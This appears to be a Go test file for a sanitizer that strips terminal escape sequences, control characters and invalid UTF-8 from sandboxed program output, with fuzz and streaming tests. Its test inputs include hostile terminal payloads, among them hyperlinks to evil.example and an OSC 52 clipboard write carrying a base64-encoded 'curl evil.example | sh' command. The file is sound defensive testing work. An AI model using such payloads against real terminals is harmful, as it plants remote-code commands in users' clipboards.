package oci

import (
	"os"
	"strings"
	"sync"
	"testing"
	"unicode/utf8"
)

// textCases are program outputs and what the model may see of them.
var textCases = []struct {
	name, in, want string
}{
	{"plain", "hello\n", "hello\n"},
	{"empty", "", ""},
	{"tab kept", "a\tb\n", "a\tb\n"},
	{"multibyte kept", "héllo 世界 🎉\n", "héllo 世界 🎉\n"},
	{"literal U+FFFD kept", "\uFFFD", "\uFFFD"},
	{"bidi override kept", "a\u202eb", "a\u202eb"},

	// CSI.
	{"CSI colours", "\x1b[31mred\x1b[0m \x1b[1;38;5;208mbold\x1b[m\n", "red bold\n"},
	{"CSI truecolour", "\x1b[38;2;255;0;0mx\x1b[39m", "x"},
	{"CSI cursor movement", "abc\x1b[2K\x1b[1A\x1b[10;20Hdef\x1b[?25l\x1b[6n", "abcdef"},
	{"CSI with intermediate", "\x1b[0 qx\x1b[!p", "x"},
	{"CSI newline inside is executed", "\x1b[3\n1mx", "\nx"},
	{"CSI aborted by CAN", "\x1b[31\x18x", "x"},
	{"CSI aborted by SUB", "\x1b[31\x1ax", "x"},
	{"CSI restarted by ESC", "\x1b[31\x1b[32mx", "x"},
	{"CSI broken by non-ASCII", "\x1b[3é", "é"},
	{"CSI broken by invalid byte", "\x1b[3\xffx", "\uFFFDx"},
	{"8-bit CSI U+009B", "\u009b31mred\u009b0m", "red"},
	{"raw byte 0x9b is invalid UTF-8", "\x9b31m", "\uFFFD31m"},

	// OSC.
	{"OSC 8 hyperlink BEL", "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07", "click"},
	{"OSC 8 hyperlink ST", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", "click"},
	{"OSC 52 clipboard write", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07after\n", "after\n"},
	{"OSC 52 clipboard write ST", "\x1b]52;c;Y3VybA==\x1b\\after", "after"},
	{"OSC window title", "\x1b]0;pwned\x07x\x1b]2;t\x1b\\y", "xy"},
	{"OSC with UTF-8 inside", "\x1b]0;titré 世界\x07x", "x"},
	{"OSC with controls inside", "\x1b]0;a\nb\x00c\x07x", "x"},
	{"8-bit OSC and ST", "\u009d0;title\u009cok", "ok"},
	{"8-bit OSC ended by BEL", "\u009d8;;http://x\u0007ok", "ok"},

	// DCS, SOS, PM, APC.
	{"DCS", "\x1bP1$r0m\x1b\\ok", "ok"},
	{"DCS is not ended by BEL", "\x1bPq#0\x07data\x1b\\ok", "ok"},
	{"8-bit DCS", "\u0090q#0;2;0;0;0\u009cok", "ok"},
	{"APC kitty graphics", "\x1b_Gf=100,a=T;AAAA\x1b\\x", "x"},
	{"PM and SOS", "\x1b^pm\x1b\\y\x1bXsos\x1b\\z", "yz"},
	{"8-bit APC PM SOS", "\u009fa\u009cx\u009ep\u009cy\u0098s\u009cz", "xyz"},

	// Two-byte ESC sequences.
	{"ESC save restore reset", "\x1b7saved\x1b8\x1bc", "saved"},
	{"ESC charset designation", "\x1b(Bx\x1b)0y\x1b#8z", "xyz"},
	{"ESC keypad", "\x1b=\x1b>x", "x"},
	{"ESC ESC", "\x1b\x1b[31mx", "x"},

	// Unterminated sequences at the end.
	{"unterminated OSC", "ok\x1b]0;title", "ok"},
	{"unterminated CSI", "ok\x1b[31", "ok"},
	{"lone ESC at the end", "ok\x1b", "ok"},
	{"lone 8-bit CSI at the end", "ok\u009b", "ok"},

	// Control characters.
	{"NUL", "a\x00b", "ab"},
	{"CR", "a\rb", "ab"},
	{"CRLF", "one\r\ntwo\r\n", "one\ntwo\n"},
	{"progress bar frames run together", "10%\r50%\r100%\n", "10%50%100%\n"},
	{"BS", "abc\x08\x08xy", "abcxy"},
	{"BEL", "ding\x07", "ding"},
	{"DEL", "a\x7fb", "ab"},
	{"form feed vertical tab", "a\x0cb\x0bc", "abc"},
	{"C1 controls", "a\u0085b\u0080c\u008dd\u009ae", "abcde"},
	{"C1 ST alone", "a\u009cb", "ab"},

	// Invalid UTF-8.
	{"lone 0xff", "a\xffb", "a\uFFFDb"},
	{"run of invalid bytes", "a\xff\xfe\xfdb", "a\uFFFDb"},
	{"invalid runs apart", "\xffa\xff", "\uFFFDa\uFFFD"},
	{"truncated multibyte at the end", "a\xe2\x82", "a\uFFFD"},
	{"truncated multibyte inside", "\xe2\x82a", "\uFFFDa"},
	{"truncated 4-byte", "\xf0\x9f\x8e", "\uFFFD"},
	{"lone continuation byte", "a\x80b", "a\uFFFDb"},
	{"overlong slash", "\xc0\xaf", "\uFFFD"},
	{"overlong 3-byte", "\xe0\x80\xaf", "\uFFFD"},
	{"overlong NUL", "a\xc0\x80b", "a\uFFFDb"},
	{"surrogate", "\xed\xa0\x80", "\uFFFD"},
	{"above U+10FFFF", "\xf4\x90\x80\x80", "\uFFFD"},
	{"invalid inside OSC is dropped", "\x1b]0;\xff\x07x", "x"},
}

func TestCleanText(t *testing.T) {
	for _, tc := range textCases {
		t.Run(tc.name, func(t *testing.T) {
			if got := CleanText([]byte(tc.in)); got != tc.want {
				t.Errorf("CleanText(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

// TestTextCleanerSplit writes each input in two parts, at every split point,
// and byte by byte: the text is the one-shot text.
func TestTextCleanerSplit(t *testing.T) {
	for _, tc := range textCases {
		t.Run(tc.name, func(t *testing.T) {
			for i := 0; i <= len(tc.in); i++ {
				if got := cleanSplit([]byte(tc.in), i); got != tc.want {
					t.Errorf("split at %d: %q + %q cleaned to %q, want %q", i, tc.in[:i], tc.in[i:], got, tc.want)
				}
			}
			if got := cleanBytewise([]byte(tc.in)); got != tc.want {
				t.Errorf("byte by byte: %q cleaned to %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

func cleanSplit(b []byte, i int) string {
	var c TextCleaner
	return c.Write(b[:i]) + c.Write(b[i:]) + c.Flush()
}

func cleanBytewise(b []byte) string {
	var c TextCleaner
	var sb strings.Builder
	for i := range b {
		sb.WriteString(c.Write(b[i : i+1]))
	}
	return sb.String() + c.Flush()
}

// An escape sequence that never ends holds no memory and does not hide the
// rest of the output: past maxSequence bytes it is dropped, and what
// follows is text.
func TestTextCleanerUnterminatedSequence(t *testing.T) {
	for _, intro := range []string{"\x1b]52;c;", "\x1bP", "\x1b[", "\u009d"} {
		payload := "A"
		if intro == "\x1b[" {
			payload = "1" // a parameter byte
		}
		var c TextCleaner
		var out strings.Builder
		chunk := []byte(strings.Repeat(payload, 64<<10))
		out.WriteString(c.Write([]byte(intro)))
		for range 16 { // 1 MiB
			out.WriteString(c.Write(chunk))
			if c.npend > 0 {
				t.Fatalf("%q: %d bytes held between writes", intro, c.npend)
			}
		}
		out.WriteString(c.Write([]byte("\nvisible")))
		out.WriteString(c.Flush())
		got := out.String()
		want := strings.Repeat(payload, len(intro)+16*len(chunk)-maxSequence) + "\nvisible"
		if got != want {
			t.Errorf("%q + 1 MiB unterminated: got %d bytes ending %q, want %d bytes ending %q",
				intro, len(got), got[max(0, len(got)-20):], len(want), want[len(want)-20:])
		}
	}
	// A terminated sequence of just maxSequence bytes is dropped whole.
	in := "\x1b]0;" + strings.Repeat("t", maxSequence-5) + "\x07x"
	if got := CleanText([]byte(in)); got != "x" {
		t.Errorf("OSC of %d bytes: got %q, want %q", maxSequence, Truncate(got, 40), "x")
	}
}

// checkClean fails unless out is valid UTF-8 without escape or control
// characters other than newline and tab.
func checkClean(t *testing.T, in []byte, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Fatalf("CleanText(%q) = %q: not valid UTF-8", in, out)
	}
	for _, r := range out {
		if (r < 0x20 && r != '\n' && r != '\t') || (r >= 0x7f && r <= 0x9f) {
			t.Fatalf("CleanText(%q) = %q: contains control character %U", in, out, r)
		}
	}
}

func FuzzTextCleaner(f *testing.F) {
	for _, tc := range textCases {
		f.Add([]byte(tc.in), uint(len(tc.in)/2))
	}
	f.Add([]byte("\x1b]8;;http://x\x1b\\a\u009b1m\xe2\x82\xac\r\n"), uint(3))
	f.Fuzz(func(t *testing.T, in []byte, split uint) {
		want := CleanText(in)
		checkClean(t, in, want)
		if len(want) > 3*len(in) {
			t.Fatalf("CleanText(%q) = %q: longer than three times the input", in, want)
		}
		i := int(split % uint(len(in)+1))
		if got := cleanSplit(in, i); got != want {
			t.Fatalf("split at %d: %q cleaned to %q, one-shot %q", i, in, got, want)
		}
		if len(in) < 256 {
			if got := cleanBytewise(in); got != want {
				t.Fatalf("byte by byte: %q cleaned to %q, one-shot %q", in, got, want)
			}
		}
	})
}

// The live output of a capture is cleaned like the result's text, with
// sequences and characters split across reads, and ends before wait
// returns.
func TestCaptureLiveOutput(t *testing.T) {
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	var (
		mu     sync.Mutex
		chunks []string
		done   bool
	)
	emit := func(s string) {
		mu.Lock()
		defer mu.Unlock()
		if done {
			t.Errorf("live output %q after wait returned", s)
		}
		chunks = append(chunks, s)
	}
	c := StartCapture(r, 40, func() {}, emit)
	parts := []string{"\x1b[3", "1mred\x1b[0m \xe2\x82", "\xac\r\n", "\x1b]8;;http://x\x07", strings.Repeat("z", 40)}
	for _, p := range parts {
		if _, err := w.Write([]byte(p)); err != nil {
			t.Fatal(err)
		}
	}
	w.Close()
	b, trunc := c.Wait()
	mu.Lock()
	done = true
	got := strings.Join(chunks, "")
	mu.Unlock()
	if !trunc {
		t.Error("not truncated at the 40-byte cap")
	}
	if want := CleanText(b); got != want {
		t.Errorf("live output %q, want the result's text %q", got, want)
	}
	if want := "red €\n" + strings.Repeat("z", 40-len("\x1b[31mred\x1b[0m \xe2\x82\xac\r\n\x1b]8;;http://x\x07")); got != want {
		t.Errorf("live output %q, want %q", got, want)
	}
	if text := c.Text(); !strings.HasSuffix(text, "\n[sandcell: output truncated at 40 bytes]") {
		t.Errorf("text %q has no truncation marker", text)
	}
}

// TestOutputBytes: Bytes keeps what the program wrote within the cap, a
// byte that is not UTF-8 and escapes included (Judge0's base64_encoded),
// while Text cleans it and marks the cut.
func TestOutputBytes(t *testing.T) {
	over := 0
	o := NewOutput(8, func() { over++ }, nil)
	o.Write([]byte("a\xfe\x1b[1mb"))
	o.Write([]byte("cdef"))
	if got := string(o.Bytes()); got != "a\xfe\x1b[1mbc" || over != 1 {
		t.Errorf("Bytes %q (over called %d times), want the first 8 bytes as written", got, over)
	}
	if txt := o.Text(); !strings.HasPrefix(txt, "a\uFFFDbc") || !strings.Contains(txt, "truncated") {
		t.Errorf("Text %q, want the cleaned text with the note", txt)
	}
	if b := NewOutput(8, func() {}, nil).Bytes(); len(b) != 0 {
		t.Errorf("an empty stream's Bytes %q", b)
	}
}
